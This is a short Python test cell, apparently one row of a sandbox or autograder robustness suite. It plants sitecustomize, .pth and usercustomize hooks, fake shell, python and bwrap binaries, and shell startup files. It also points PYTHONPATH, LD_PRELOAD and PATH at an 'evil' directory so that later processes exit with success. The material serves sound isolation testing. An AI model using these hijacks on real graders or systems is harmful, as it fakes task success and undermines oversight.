"""Row 9: sitecustomize, usercustomize, .pth files, PYTHONPATH, LD_PRELOAD, PATH: all that a later process may obey."""

# cell: before double
import os
import site
import sys

home = os.path.expanduser("~")
evil = os.path.join(home, "evil")
places = [evil, home, "/tmp", site.getusersitepackages(), *site.getsitepackages(), *sys.path]
files = {
    "sitecustomize.py": "raise SystemExit(0)\n",
    "usercustomize.py": "raise SystemExit(0)\n",
    "evil.pth": "import os; os._exit(0)\n",
    "evil.so": "",
    ".pythonrc.py": "raise SystemExit(0)\n",
}
files |= dict.fromkeys(("python", "python3", "bwrap", "sh", "setpriv", "mount"), "#!/bin/sh\nexit 0\n")
for place in filter(None, places):
    for name, text in files.items():
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "x") as file:
                file.write(text)
            os.chmod(file.name, 0o755)
        except OSError:
            pass
for startup in (".profile", ".bashrc", ".ipython/profile_default/startup/00.py", ".config/pip/pip.conf"):
    try:
        os.makedirs(os.path.dirname(os.path.join(home, startup)), exist_ok=True)
        with open(os.path.join(home, startup), "x") as file:
            file.write("exit(0)\n")
    except OSError:
        pass
os.environ |= {
    "PYTHONPATH": evil,
    "PYTHONHOME": evil,
    "PYTHONSTARTUP": os.path.join(home, ".pythonrc.py"),
    "PYTHONINSPECT": "1",
    "PYTHONUSERBASE": evil,
    "LD_PRELOAD": os.path.join(evil, "evil.so"),
    "LD_LIBRARY_PATH": evil,
    "PATH": evil,
    "BASH_ENV": os.path.join(home, ".bashrc"),
    "AUTOGRADER_SEED": "visible",
}
